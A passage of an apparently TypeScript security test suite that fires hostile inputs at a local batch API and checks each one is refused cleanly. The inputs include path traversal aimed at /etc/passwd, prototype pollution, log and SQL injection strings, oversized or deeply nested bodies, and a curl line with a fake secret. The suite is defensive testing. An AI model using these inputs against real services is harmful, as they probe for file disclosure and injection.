      { what: '__proto__ inside agent', raw: true, body: () => JSON.stringify(valid()).replace('"agent":{', '"agent":{"__proto__":{"polluted":"yes"},'), statuses: [400], field: 'agent' },
      { what: '__proto__ inside defaults', body: () => ({ ...valid(), defaults: JSON.parse('{"__proto__":{"image":"evil:latest","polluted":"yes"}}') as unknown }), statuses: [400], field: 'defaults' },
      { what: '10,001 digests (over maxItems)', body: () => ({ ...valid(), tasks: Array.from({ length: 10_001 }, hex64) }), statuses: [400], field: 'tasks', maxMs: 5_000 },
      { what: '9,999 digests none of which is stored', body: () => ({ ...valid(), tasks: Array.from({ length: 9_999 }, hex64) }), statuses: [422], field: 'tasks', maxMs: 5_000 },
      { what: 'samples 1e9', body: withValid({ samples: 1e9 }), statuses: [400], field: 'samples' },
      { what: 'samples 10001', body: withValid({ samples: 10_001 }), statuses: [400], field: 'samples' },
      { what: 'samples -1', body: withValid({ samples: -1 }), statuses: [400], field: 'samples' },
      { what: 'samples 0', body: withValid({ samples: 0 }), statuses: [400], field: 'samples' },
      { what: 'samples 1.5', body: withValid({ samples: 1.5 }), statuses: [400], field: 'samples' },
      { what: 'samples "4"', body: withValid({ samples: '4' }), statuses: [400], field: 'samples' },
      { what: 'samples null', body: withValid({ samples: null }), statuses: [400], field: 'samples' },
      { what: 'samples true', body: withValid({ samples: true }), statuses: [400], field: 'samples' },
      { what: 'samples 1e400 (Infinity once parsed)', raw: true, body: () => JSON.stringify(valid()).replace('"samples":1', '"samples":1e400'), statuses: [400], field: 'samples' },
      { what: 'name 123', body: withValid({ name: 123 }), statuses: [400], field: 'name' },
      { what: 'name ../../etc/passwd', body: withValid({ name: '../../etc/passwd' }), statuses: [400], field: 'name' },
      { what: 'name a/b', body: withValid({ name: 'a/b' }), statuses: [400], field: 'name' },
      { what: 'name with a backslash', body: withValid({ name: 'a\\b' }), statuses: [400], field: 'name' },
      { what: 'name with a NUL', body: withValid({ name: 'a\u0000b' }), statuses: [400], field: 'name' },
      { what: 'name with a newline (log injection)', body: withValid({ name: 'a\n{"level":60,"msg":"forged"}' }), statuses: [400], field: 'name' },
      { what: 'name of 10,000 characters', body: withValid({ name: 'a'.repeat(10_000) }), statuses: [400], field: 'name' },
      { what: 'name "*" (a Redis glob)', body: withValid({ name: '*' }), statuses: [400], field: 'name' },
      { what: 'tasks as a string', body: () => ({ ...valid(), tasks: goodDigest }), statuses: [400], field: 'tasks' },
      { what: 'tasks as an object', body: () => ({ ...valid(), tasks: { 0: goodDigest } }), statuses: [400], field: 'tasks' },
      { what: 'tasks empty', body: withValid({ tasks: [] }), statuses: [400], field: 'tasks' },
      { what: 'tasks [123]', body: withValid({ tasks: [123] }), statuses: [400], field: 'tasks' },
      { what: 'tasks [{digest, path: "/etc"}]', body: () => ({ ...valid(), tasks: [{ digest: goodDigest, path: '/etc' }] }), statuses: [400], field: 'tasks' },
      { what: 'a digest in upper case', body: () => ({ ...valid(), tasks: [goodDigest.toUpperCase()] }), statuses: [400], field: 'tasks' },
      { what: 'agent as a string', body: withValid({ agent: 'command' }), statuses: [400], field: 'agent' },
      { what: 'agent as an array', body: withValid({ agent: [] }), statuses: [400], field: 'agent' },
      { what: 'agent kind unknown', body: withValid({ agent: { kind: 'shell', command: 'id' } }), statuses: [400], field: 'agent' },
      { what: 'agent command empty', body: withValid({ agent: { kind: 'command', command: '' } }), statuses: [400], field: 'agent' },
      { what: 'agent command a number', body: withValid({ agent: { kind: 'command', command: 42 } }), statuses: [400], field: 'agent' },
      { what: 'an unknown top-level field', body: withValid({ priority: 99 }), statuses: [400], field: 'priority' },
      { what: 'an unknown field in defaults.limits', body: withValid({ defaults: { limits: { memoryMb: 64, privileged: true } } }), statuses: [400], field: 'defaults' },
      { what: 'defaults.workdir relative', body: withValid({ defaults: { workdir: '../../etc' } }), statuses: [400], field: 'defaults' },
      { what: 'the body is an array', body: () => [valid()], statuses: [400], field: 'body' },
      { what: 'the body is null', raw: true, body: () => 'null', statuses: [400], field: 'body' },
      { what: 'the body is a string', raw: true, body: () => '"hello"', statuses: [400], field: 'body' },
      { what: 'the body is a number', raw: true, body: () => '42', statuses: [400], field: 'body' },
      { what: 'JSON nested 100,000 levels deep in an unknown field', raw: true, body: () => JSON.stringify(valid()).replace(/}$/, `,"deep":${'['.repeat(100_000)}${']'.repeat(100_000)}}`), statuses: [400], field: 'deep', maxMs: 5_000 },
      { what: 'JSON nested 100,000 levels deep as the name', raw: true, body: () => JSON.stringify(valid()).replace(/"name":"[^"]*"/, `"name":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`), statuses: [400], field: 'name', maxMs: 5_000 },
      { what: 'malformed JSON right after a secret (the parse error must not quote it)', raw: true, body: () => `{"name":"leak","tasks":["${goodDigest}"],"agent":{"kind":"command","command":"curl -H 'Authorization: sk-live-abcdef' x"} oops`, statuses: [400], field: 'body', notSays: ['sk-live'] },
      { what: 'valid JSON sent as text/plain', raw: true, body: () => JSON.stringify(valid()), contentType: 'text/plain', statuses: [400, 415], field: 'content-type|body' },
      { what: 'a form-encoded body', raw: true, body: () => `name=x&tasks=${goodDigest}&agent=oracle`, contentType: 'application/x-www-form-urlencoded', statuses: [400, 415], field: 'content-type|body' },
      { what: 'no content type at all', raw: true, body: () => JSON.stringify(valid()), contentType: '', statuses: [400, 415], field: 'content-type|body' },
      { what: 'a tar sent as application/json', raw: true, body: () => tarOf(...taskParts('tar-as-json')).toString('latin1'), statuses: [400], field: 'body' },
      { what: 'retry: kind __proto__', route: 'retry', body: () => ({ kind: '__proto__' }), statuses: [400], field: 'kind' },
      { what: 'retry: kind constructor', route: 'retry', body: () => ({ kind: 'constructor' }), statuses: [400], field: 'kind' },
      { what: 'retry: kind as an array', route: 'retry', body: () => ({ kind: ['verifier'] }), statuses: [400], field: 'kind' },
      { what: 'retry: an unknown field', route: 'retry', body: () => ({ kind: 'verifier', all: true }), statuses: [400], field: 'all' },
      { what: 'cancel: an episode id with ../', route: 'cancel', body: () => ({ episodeIds: ['../../etc/passwd'] }), statuses: [400], field: 'episodeIds' },
      { what: 'cancel: 100,001 episode ids (over maxItems, 1 MiB is the limit anyway)', route: 'cancel', body: () => ({ episodeIds: Array.from({ length: 100_001 }, (_, i) => `e${i}`) }), statuses: [400, 413], field: 'episodeIds|body', maxMs: 5_000 },
    ];

    /** A batch for the retry and cancel routes to be attacked on: one sleeping episode, cancelled at the end. */
    let target: { batchId: string } | undefined;
    const targetId = async () => {
      if (!target) {
        const r = await postJson('/v1/batches', { ...valid(), name: 'hostile-target', agent: { kind: 'command', command: 'sleep 600' } });
        expect(shown(r).status).toBe(201);
        target = r.json as { batchId: string };
      }
      return target.batchId;
    };
    afterAll(async () => {
      if (target) await postJson(`/v1/batches/${target.batchId}/cancel`, {});
    });

    for (const attack of attacks) {
      it(`batches: ${attack.what}`, async () => {
        const route = attack.route ? `/v1/batches/${await targetId()}/${attack.route}` : '/v1/batches';
        const value = attack.body();
        const body = attack.raw ? (value as string) : JSON.stringify(value);
        const before = await snapshot();
        const headers: Record<string, string> = attack.contentType === '' ? {} : { 'content-type': attack.contentType ?? 'application/json' };
        const { value: res, maxMs } = await healthzDuring(base, () => post(route, body, headers, (attack.maxMs ?? 5_000) + 10_000));
        expect.soft(attack.statuses, `status: ${JSON.stringify(shown(res))}`).toContain(res.status);
        expect.soft(res.ms, 'answer time (ms)').toBeLessThan(attack.maxMs ?? 5_000);
        expect.soft(maxMs, 'slowest /healthz during the request (ms)').toBeLessThan(HEALTHZ_MS);
        const fields = attack.field.split('|');
        expect.soft(fields.some((f) => namesField(res, f)), `names ${attack.field}: ${JSON.stringify(shown(res))}`).toBe(true);
        for (const s of attack.notSays ?? []) expect.soft(res.text, 'the answer echoes the body').not.toContain(s);
        expect.soft(res.text.length, 'the answer is short').toBeLessThan(4096);
        expect.soft(({} as Record<string, unknown>).polluted, 'Object.prototype polluted').toBeUndefined();
        expect.soft(Object.prototype.hasOwnProperty.call(Object.prototype, 'kind'), 'Object.prototype polluted').toBe(false);
        await expectNoTrace(before);
      });
    }

    it('batches: 10,000 copies of one digest are refused, or name each episode once', async () => {
      const before = await snapshot();
      const res = await postJson('/v1/batches', { ...valid(), name: 'hostile-dups', tasks: Array(10_000).fill(goodDigest), agent: { kind: 'command', command: 'sleep 600' } });
      expect.soft(res.status, `not a 5xx: ${JSON.stringify(shown(res))}`).toBeLessThan(500);
      if (res.status >= 400) {
        // 400 for the duplicates themselves; under load another refusal (a 422 when no live host's
        // facts list the image yet) must still name a field and enqueue nothing.
        if (res.status === 400) expect.soft(namesField(res, 'tasks'), `names tasks: ${JSON.stringify(shown(res))}`).toBe(true);
        else expect.soft(res.json.error?.field, `a refusal names a field: ${JSON.stringify(shown(res))}`).toEqual(expect.any(String));
        expect.soft((await counts()).episodeJobs).toBe(before.counts.episodeJobs);
      } else {
        const created = res.json as { batchId: string; episodes: number; episodeIds: string[] };
        expect.soft(created.episodeIds.length, 'episode ids').toBe(created.episodes);
        expect.soft(new Set(created.episodeIds).size, 'distinct episode ids').toBe(created.episodeIds.length);
        expect.soft((await counts()).episodeJobs - before.counts.episodeJobs, 'episode jobs enqueued').toBe(created.episodes);
        await postJson(`/v1/batches/${created.batchId}/cancel`, {});
      }
      await expectAlive();
    });

    it('batches: the same new batch posted twenty times at once (three rounds) is one batch, added once', async () => {
      const rounds: Record<string, unknown> = {};
      for (let round = 0; round < 3; round++) {
        const before = await snapshot();
        const request = { ...valid(), name: `hostile-race-${round}`, samples: 2, agent: { kind: 'command', command: 'sleep 600' } };
        const replies = await Promise.all(Array.from({ length: 20 }, () => postJson('/v1/batches', request)));
        const ids = new Set(replies.map((r) => (r.json as { batchId?: string }).batchId));
        rounds[`round ${round}`] = {
          statuses: Object.entries(replies.reduce<Record<number, number>>((m, r) => ({ ...m, [r.status]: (m[r.status] ?? 0) + 1 }), {})).map(([k, v]) => `${v}x${k}`).sort().join(' '),
          batchIds: ids.size,
          addedTrue: replies.filter((r) => (r.json as { added?: boolean }).added === true).length,
          episodeJobsEnqueued: (await counts()).episodeJobs - before.counts.episodeJobs,
        };
        const [batchId] = [...ids];
        if (batchId) await postJson(`/v1/batches/${batchId}/cancel`, {});
      }
      const want = { statuses: '19x200 1x201', batchIds: 1, addedTrue: 1, episodeJobsEnqueued: 2 };
      expect.soft(rounds).toEqual({ 'round 0': want, 'round 1': want, 'round 2': want });
      await expectAlive();
    });
  });

  // -------------------------------------------------------------------------------------------------
  describe('auth', () => {
    it('only the exact bearer token opens a route; nothing echoes what was sent', async () => {
      const route = '/v1/batches/no-such-batch';
      const cases: Array<{ what: string; headers: Record<string, string>; route?: string; want: number[] }> = [
        { what: 'the token', headers: { authorization: `Bearer ${TOKEN}` }, want: [404] },
        { what: 'the scheme in lower case (RFC 7235: case-insensitive)', headers: { authorization: `bearer ${TOKEN}` }, want: [404] },
        { what: 'the token and a space', headers: { authorization: `Bearer ${TOKEN} ` }, want: [404, 401] },
        { what: 'the token, a space and more', headers: { authorization: `Bearer ${TOKEN} ${TOKEN}` }, want: [401] },
        { what: 'two spaces before the token', headers: { authorization: `Bearer  ${TOKEN}` }, want: [401, 404] },
        { what: 'the token with a suffix', headers: { authorization: `Bearer ${TOKEN}x` }, want: [401] },
        { what: 'a prefix of the token', headers: { authorization: `Bearer ${TOKEN.slice(0, -1)}` }, want: [401] },
        { what: 'the token in upper case', headers: { authorization: `Bearer ${TOKEN.toUpperCase()}` }, want: [401] },
        { what: '"Bearer " and nothing', headers: { authorization: 'Bearer ' }, want: [401] },
        { what: '"Bearer" alone', headers: { authorization: 'Bearer' }, want: [401] },
        { what: 'the token without a scheme', headers: { authorization: TOKEN }, want: [401] },
        { what: 'Basic with the token as password', headers: { authorization: `Basic ${Buffer.from(`x:${TOKEN}`).toString('base64')}` }, want: [401] },
        { what: 'the token as a cookie', headers: { cookie: `token=${TOKEN}` }, want: [401] },
        { what: 'the token in X-Api-Key', headers: { 'x-api-key': TOKEN }, want: [401] },
        { what: 'the token in ?access_token=', headers: {}, route: `${route}?access_token=${TOKEN}`, want: [401] },
        { what: 'the token in ?token=', headers: {}, route: `${route}?token=${TOKEN}`, want: [401] },
        { what: 'an 8 KiB Authorization header', headers: { authorization: `Bearer ${'A'.repeat(8 * 1024)}` }, want: [401] },
        { what: 'a 64 KiB Authorization header', headers: { authorization: `Bearer ${'B'.repeat(64 * 1024)}` }, want: [401, 431] },
      ];
      const outcomes: Record<string, unknown> = {};
      const wanted: Record<string, unknown> = {};
      for (const c of cases) {
        const r = await get(c.route ?? route, c.headers, 5_000);
        outcomes[c.what] = c.want.includes(r.status) ? 'ok' : shown(r);
        wanted[c.what] = 'ok';
        if (r.status === 401) {
          expect.soft(r.json.error?.field, `${c.what}: field`).toBe('authorization');
          expect.soft(r.headers['www-authenticate'] ?? '', `${c.what}: WWW-Authenticate (RFC 6750)`).toMatch(/^Bearer/);
          const sent = c.headers.authorization?.replace(/^\S+\s*/, '') ?? '';
          if (sent.length > 3) expect.soft(r.text, `${c.what}: echoes the credential`).not.toContain(sent.trim());
          expect.soft(r.text, `${c.what}: echoes the token`).not.toContain(TOKEN);
        }
      }
      expect.soft(outcomes).toEqual(wanted);
      // Open routes stay open; nothing else is.
      expect.soft((await get('/healthz', {})).status).toBe(200);
      expect.soft((await get('/openapi.json', {})).status).toBe(200);
      for (const r of ['/v1/batches/x/results', '/v1/batches/x/episodes/y', '/v1/batches/x/episodes/y/evidence/1/result.json', '/v1/nothing', '/v1/batches']) {
        const res = await get(r, {});
        expect.soft({ r, status: res.status }).toEqual({ r, status: 401 });
      }
      await expectAlive();
    });

    it('an unauthenticated 20 MiB upload is refused at once and not stored', async () => {
      const before = await snapshot();
      const body = Buffer.concat([tarOf(...taskParts('noauth')).subarray(0, -END.length), rawEntry({ name: 'workspace/pad', body: Buffer.alloc(20 * 1024 * 1024) }), END]);
      const res = await request(base, '/v1/tasks', { method: 'POST', body, headers: { 'content-type': 'application/x-tar' }, timeoutMs: 10_000 });
      expect.soft(shown(res)).toMatchObject({ status: 401 });
      expect.soft(res.ms).toBeLessThan(2_000);
      await expectNoTrace(before);
    });
  });

  // -------------------------------------------------------------------------------------------------
  describe('results stream and episodes', () => {
    /** Two finished batches, each one task × 3 samples. */
    let a: { batchId: string; episodeIds: string[] };
    let b: { batchId: string; episodeIds: string[] };
    let aRead: SseRead;
    let bRead: SseRead;

    const createBatch = async (name: string, samples: number, command: string, tasks = [goodDigest]) => {
      const r = await postJson('/v1/batches', { name, tasks, samples, agent: { kind: 'command', command } });
      expect(shown(r).status).toBe(201);
      return r.json as { batchId: string; episodeIds: string[] };
    };
    const finished = (batchId: string, timeoutMs = 150_000) =>
      waitFor(`${batchId} to finish`, async () => ((await client.status(batchId))?.finished ? true : undefined), timeoutMs, 250);

    beforeAll(async () => {
      a = await createBatch('hostile-a', 3, 'echo fixed > state.txt');
      b = await createBatch('hostile-b', 3, 'echo fixed > state.txt; true');
      await finished(a.batchId);
      await finished(b.batchId);
      aRead = await sse(base, `/v1/batches/${a.batchId}/results`, AUTH, { timeoutMs: 20_000 });
      bRead = await sse(base, `/v1/batches/${b.batchId}/results`, AUTH, { timeoutMs: 20_000 });
      expect(aRead.ended && bRead.ended).toBe(true);
    }, 200_000);

    it('stream: garbage or Redis-special cursors get 400 naming the field, in the header or the query', async () => {
      const garbage = ['garbage', '../../etc/passwd', '1-2-3', '-1-0', '99999999999999999999999999-0', '1-0:g:g', "' OR 1=1 --", '$', '+', '-', '>', '*', '1-0\\', '%00'];
      const bad: Record<string, unknown> = {};
      for (const g of garbage) {
        const viaHeader = await sse(base, `/v1/batches/${a.batchId}/results`, { ...AUTH, 'last-event-id': g }, { timeoutMs: 5_000 });
        let field: string | undefined;
        try { field = (JSON.parse(viaHeader.text) as Reply['json']).error?.field; } catch { /* not JSON */ }
        if (viaHeader.status !== 400 || !/^(last-event-id|after)$/i.test(field ?? '')) bad[`Last-Event-ID: ${g}`] = { status: viaHeader.status, timedOut: viaHeader.timedOut, body: viaHeader.text.slice(0, 200), events: viaHeader.events.length };
        const viaQuery = await get(`/v1/batches/${a.batchId}/results?after=${encodeURIComponent(g)}`, AUTH, 5_000);
        if (viaQuery.status !== 400 || viaQuery.json.error?.field !== 'after') bad[`?after=${g}`] = shown(viaQuery);
      }
      expect.soft(bad).toEqual({});
      await expectAlive();
    });

    it('stream: a cursor in the future on a finished batch ends at once with no results (or 400), it does not hang', async () => {
      for (const cursor of [`${Date.now() + 10 * 365 * 86_400_000}-0`, '18446744073709551615-18446744073709551615']) {
        const read = await sse(base, `/v1/batches/${a.batchId}/results`, { ...AUTH, 'last-event-id': cursor }, { timeoutMs: 10_000 });
        expect.soft({ cursor, timedOut: read.timedOut }).toEqual({ cursor, timedOut: false });
        expect.soft([200, 400], `status for ${cursor}: ${read.text.slice(0, 200)}`).toContain(read.status);
        if (read.status === 200) {
          expect.soft(read.events.filter((e) => e.event === 'result'), `results after ${cursor}`).toEqual([]);
          expect.soft(read.ended, `ends after ${cursor}`).toBe(true);
        }
        const nd = await get(`/v1/batches/${a.batchId}/results?after=${cursor}`, AUTH, 10_000);
        expect.soft({ cursor, hung: nd.hung, status: nd.status < 500 }).toEqual({ cursor, hung: false, status: true });
      }
      await expectAlive();
    });

    it("stream: another batch's cursor never yields that batch's results", async () => {
      const foreign = bRead.events.find((e) => e.event === 'result')!.id!;
      const read = await sse(base, `/v1/batches/${a.batchId}/results`, { ...AUTH, 'last-event-id': foreign }, { timeoutMs: 10_000 });
      expect.soft(read.timedOut).toBe(false);
      expect.soft([200, 400], read.text.slice(0, 200)).toContain(read.status);
      for (const e of read.events.filter((x) => x.event === 'result')) {
        expect.soft((JSON.parse(e.data) as { result: { batchId: string } }).result.batchId).toBe(a.batchId);
      }
      const nd = await get(`/v1/batches/${a.batchId}/results?after=${foreign}`, AUTH, 10_000);
      expect.soft(nd.status).toBeLessThan(500);
      expect.soft(nd.text).not.toContain(b.batchId);
      await expectAlive();
    });

    it('stream: fifty SSE clients on a running batch all get the same events in the same order', async () => {
      const fan = await createBatch('hostile-fan', 10, 'sleep 1; echo fixed > state.txt');
      const route = `/v1/batches/${fan.batchId}/results`;
      const { value: reads, maxMs } = await healthzDuring(base, () => Promise.all(Array.from({ length: 50 }, () => sse(base, route, AUTH, { timeoutMs: 150_000 }))));
      expect.soft(reads.map((r) => r.status)).toEqual(Array(50).fill(200));
      expect.soft(reads.map((r) => r.ended)).toEqual(Array(50).fill(true));
      const seq = (r: SseRead) => r.events.map((e) => `${e.event}:${e.id ?? ''}`);
      const first = seq(reads[0]!);
      for (let i = 1; i < reads.length; i++) expect.soft(seq(reads[i]!), `client ${i}`).toEqual(first);
      const results = reads[0]!.events.filter((e) => e.event === 'result').map((e) => (JSON.parse(e.data) as { result: { episodeId: string } }).result.episodeId);
      expect.soft(results.sort()).toEqual([...fan.episodeIds].sort());
      expect.soft(maxMs, 'slowest /healthz while 50 clients streamed (ms)').toBeLessThan(HEALTHZ_MS);
      await expectAlive();
    }, 200_000);

    it('stream: clients that never read (slow consumers of a 7 MB stream) do not hold up others', async () => {
      // Each result echoes the agent's command: a 60 KiB command (the limit is 64 KiB) makes each event
      // 60 KiB. 120 episodes cancelled while queued end at once: a stream of over 7 MB, more than the
      // kernel buffers for a reader that never reads (about 3-4 MB on loopback), so writes back up.
      const command = `sleep 600 # ${'x'.repeat(60 * 1024)}`;
      const big = await createBatch('hostile-big', 120, command);
      await postJson(`/v1/batches/${big.batchId}/cancel`, {});
      await finished(big.batchId, 120_000);
      const route = `/v1/batches/${big.batchId}/results`;
      const whole = await get(route, { ...AUTH, accept: 'application/x-ndjson' }, 30_000);
      expect(whole.text.length, 'the stream is large enough to fill the buffers of a reader that does not read').toBeGreaterThan(6_000_000);
      const port = (server.address() as AddressInfo).port;
      const stalled = await Promise.all(Array.from({ length: 4 }, (_, i) => new Promise<net.Socket>((resolve) => {
        const s = net.connect(port, '127.0.0.1', () => {
          s.write(`GET ${route} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${TOKEN}\r\nAccept: ${i % 2 ? 'application/x-ndjson' : 'text/event-stream'}\r\n\r\n`);
          s.pause();
          // Buffered up to the high-water mark and never read: the server's writes then back up.
          s.on('readable', () => undefined);
          resolve(s);
        });
        s.on('error', () => undefined);
      })));
      try {
        // The slow ones have begun receiving (and, never reading, fill their buffers).
        await waitFor('the stalled readers to receive data', async () => stalled.every((s) => s.readableLength > 0), 10_000, 50);
        const { value: reads, maxMs } = await healthzDuring(base, () => Promise.all([
          ...Array.from({ length: 3 }, () => sse(base, route, AUTH, { timeoutMs: 30_000 })),
          sse(base, `/v1/batches/${a.batchId}/results`, AUTH, { timeoutMs: 30_000 }),
        ]));
        for (const [i, r] of reads.entries()) {
          expect.soft({ i, status: r.status, ended: r.ended, timedOut: r.timedOut }).toEqual({ i, status: 200, ended: true, timedOut: false });
        }
        expect.soft(reads[0]!.events.filter((e) => e.event === 'result').length).toBe(120);
        expect.soft(maxMs, 'slowest /healthz beside slow consumers (ms)').toBeLessThan(HEALTHZ_MS);
      } finally {
        for (const s of stalled) s.destroy();
      }
      await expectAlive();
    }, 300_000);

    it('stream: 200 streams closed mid-way leak no Redis connection and no socket; cancel cannot reach another batch', async () => {
      const sleepy = await createBatch('hostile-sleepy', 2, 'sleep 600');
      await waitFor('the sleepy batch to run', async () => ((await client.status(sleepy.batchId))?.total ? true : undefined), 30_000);
      const redisClients = async () => (String(await env.client.client('LIST'))).trim().split('\n').length;
      const openSockets = () => new Promise<number>((resolve) => server.getConnections((_, n) => resolve(n)));
      // Settled (the same count twice in a row), then counted.
      let last = -1;
      const baseline = await waitFor('Redis connections to settle', async () => {
        const n = await redisClients();
        const settled = n === last;
        last = n;
        return settled ? n : undefined;
      }, 10_000, 250);
      for (let i = 0; i < 100; i++) {
        // A stream that waits for results that will not come, closed after its headers...
        await new Promise<void>((resolve) => {
          const req = http.get(`${base}/v1/batches/${sleepy.batchId}/results`, { headers: { ...AUTH, accept: i % 2 ? 'application/x-ndjson' : 'text/event-stream' } }, () => {
            setTimeout(() => { req.destroy(); resolve(); }, 20);
          });
          req.on('error', () => resolve());
          setTimeout(() => { req.destroy(); resolve(); }, 2_000);
        });
        // ...and a stream of a finished batch closed after its first event.
        await sse(base, `/v1/batches/${a.batchId}/results`, AUTH, { stopAfter: 1, timeoutMs: 5_000 });
      }
      const settled = await waitFor('Redis connections to return to the baseline', async () => {
        const n = await redisClients();
        return n <= baseline + 2 ? n : undefined;
      }, 15_000, 250).catch(async () => redisClients());
      expect.soft(settled, `Redis connections (baseline ${baseline}) after 200 closed streams`).toBeLessThanOrEqual(baseline + 2);
      await waitFor('sockets to close', async () => (await openSockets()) <= 1, 10_000, 250).catch(() => undefined);
      const sockets = await openSockets();
      expect.soft(sockets, 'server sockets still open after 200 closed streams').toBeLessThanOrEqual(1);
      await expectAlive();
      // A full read still works.
      const again = await sse(base, `/v1/batches/${a.batchId}/results`, AUTH, { timeoutMs: 15_000 });
      expect.soft(again.events.map((e) => e.id)).toEqual(aRead.events.map((e) => e.id));

      // Cancel through batch A's route naming batch sleepy's episode: refused, and it keeps running.
      const cross = await postJson(`/v1/batches/${a.batchId}/cancel`, { episodeIds: [sleepy.episodeIds[0]] });
      expect.soft(cross.status, JSON.stringify(shown(cross))).toBe(400);
      expect.soft(namesField(cross, 'episodeIds'), JSON.stringify(shown(cross))).toBe(true);
      const retryCross = await postJson(`/v1/batches/${a.batchId}/retry`, { kind: 'agent', episodeIds: [sleepy.episodeIds[0]] });
      expect.soft(retryCross.status).toBe(400);
      // Refused before any step: no cancel was asked of the episode, and it is not cancelled.
      expect.soft(await env.client.exists(episodeCancelKey(env.prefix, sleepy.episodeIds[0]!)), "the other batch's episode was asked to cancel").toBe(0);
      expect.soft((await client.status(sleepy.batchId))?.byStatus?.cancelled ?? 0, "the other batch's episode was cancelled").toBe(0);
      await postJson(`/v1/batches/${sleepy.batchId}/cancel`, {});
      await finished(sleepy.batchId, 60_000);
    }, 200_000);

    it('episodes: traversal in batchId, episodeId, attempt and name, and ids of another batch, get 4xx and nothing else', async () => {
      const e = a.episodeIds[0]!;
      const f = b.episodeIds[0]!;
      const epi = `/v1/batches/${a.batchId}/episodes`;
      // The evidence folders on disk, to aim a relative path at another batch's evidence.
      const onDisk = (id: string) => {
        try {
          return execFileSync('find', [env.dataDir, '-path', `*${id}*`, '-name', 'result.json'], { encoding: 'utf8' }).split('\n').filter(Boolean)[0];
        } catch { return undefined; }
      };
      const eFile = onDisk(e);
      const fFile = onDisk(f);
      const relative = eFile && fFile ? path.relative(path.dirname(eFile), fFile) : `../../../${b.batchId}/${f}/1/result.json`;
      const enc = (s: string) => s.split('/').map(encodeURIComponent).join('%2F');
      const routes = [
        `/v1/batches/..%2F..%2F..%2Fetc%2Fpasswd`,
        `/v1/batches/%2Fetc%2Fpasswd/results`,
        `/v1/batches/*`,
        `/v1/batches/*/results`,
        `/v1/batches/${a.batchId}*`,
        `/v1/batches/${a.batchId}%00/results`,
        `${epi}/..%2F..%2F..%2Fetc%2Fpasswd`,
        `${epi}/%2Fetc%2Fpasswd/trajectory`,
        `${epi}/..%252F..%252Fetc%252Fpasswd`,
        `${epi}/${a.batchId}.*`,
        `${epi}/${a.batchId}.*/evidence`,
        `${epi}/${e}%2F..%2F..%2F${f}/trajectory`,
        `${epi}/${e}/evidence/..%2F..%2F..%2F..%2F..%2F..%2Fetc/passwd`,
        `${epi}/${e}/evidence/1/..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd`,
        `${epi}/${e}/evidence/1/%2Fetc%2Fpasswd`,
        `${epi}/${e}/evidence/1/..`,
        `${epi}/${e}/evidence/1/.`,
        `${epi}/${e}/evidence/1/..%5C..%5C..%5Cresult.json`,
        `${epi}/${e}/evidence/1/result.json%00.txt`,
        `${epi}/${e}/evidence/0/result.json`,
        `${epi}/${e}/evidence/-1/result.json`,
        `${epi}/${e}/evidence/99999999999999999999/result.json`,
        `${epi}/${e}/evidence/1/${enc(relative)}`,
        `${epi}/${e}/evidence/${enc(path.dirname(relative))}/result.json`,
        `${epi}/${e}/evidence/1/${enc(`../../../../../../../../../..${env.dataDir}`)}`,
        `${epi}/${e}/evidence/1/${enc(fFile ?? '/etc/passwd')}`,
      ];
      const bad: Record<string, unknown> = {};
      for (const r of routes) {
        const res = await get(r, AUTH, 5_000);
        // Content, not an echo of the path asked for.
        const leaks = ['root:x:0:0', '"reward"', '"workerId"', '"taskDigest"'].some((s) => res.text.includes(s));
        if (res.status < 400 || res.status >= 500 || leaks) bad[r] = { ...shown(res), leaks };
      }
      expect.soft(bad, 'routes that answered other than a clean 4xx').toEqual({});
      // An episode of batch B asked for under batch A: 400 naming episodeId, nothing of B's.
      for (const suffix of ['', '/trajectory', '/evidence', '/evidence/1/result.json']) {
        const res = await get(`${epi}/${f}${suffix}`, AUTH, 5_000);
        expect.soft({ suffix, status: res.status }, JSON.stringify(shown(res))).toEqual({ suffix, status: 400 });
        expect.soft(res.json.error?.field, `field for ${suffix}`).toBe('episodeId');
        expect.soft(res.text, `leaks ${f}'s result`).not.toContain('"reward"');
      }
      await expectAlive();
    });
  });

  // -------------------------------------------------------------------------------------------------
  describe('a failing machine', () => {
    it('Redis goes away: the API answers 503 quickly instead of hanging, /healthz answers, and it recovers when Redis is back', async () => {
      // The worker goes first: this test is about the API, and an in-process worker losing Redis is not.
      await worker?.close();
      worker = undefined;
      const known = (await postJson('/v1/batches', { name: 'hostile-outage', tasks: [goodDigest], samples: 1, agent: { kind: 'command', command: 'true' } })).json as { batchId: string };
      const port = env.redis.port;
      await env.redis.stop();
      try {
        const h = await request(base, '/healthz', { timeoutMs: 5_000 });
        expect.soft({ hung: h.hung, fast: h.ms < 2_000 }, 'GET /healthz with Redis down').toEqual({ hung: false, fast: true });
        const checks = [
          ['GET the batch', () => get(`/v1/batches/${known.batchId}`, AUTH, 15_000)],
          ['GET the results (NDJSON)', () => get(`/v1/batches/${known.batchId}/results`, { ...AUTH, accept: 'application/x-ndjson' }, 15_000)],
          ['POST a task', () => upload(tarOf(...taskParts('outage')), {}, 15_000)],
          ['POST a batch', () => postJson('/v1/batches', { name: 'hostile-outage-2', tasks: [goodDigest], agent: { kind: 'oracle' } })],
        ] as const;
        for (const [what, call] of checks) {
          const res = await call();
          expect.soft({ what, status: res.status, hung: res.hung, fast: res.ms < 10_000 }, JSON.stringify(shown(res))).toEqual({ what, status: 503, hung: false, fast: true });
          expect.soft(res.text, `${what}: echoes the Redis address`).not.toContain(String(port));
        }
      } finally {
        env.redis = await startPrivateRedis({ port });
      }
      const back = await waitFor('the API to answer again', async () => {
        const r = await get('/v1/batches/no-such-batch', AUTH, 3_000);
        return r.status === 404 ? r : undefined;
      }, 30_000, 500).catch(() => undefined);
      expect.soft(back?.status, 'the API recovers within 30 s of Redis coming back').toBe(404);
      await expectAlive();
    }, 120_000);
  });
});
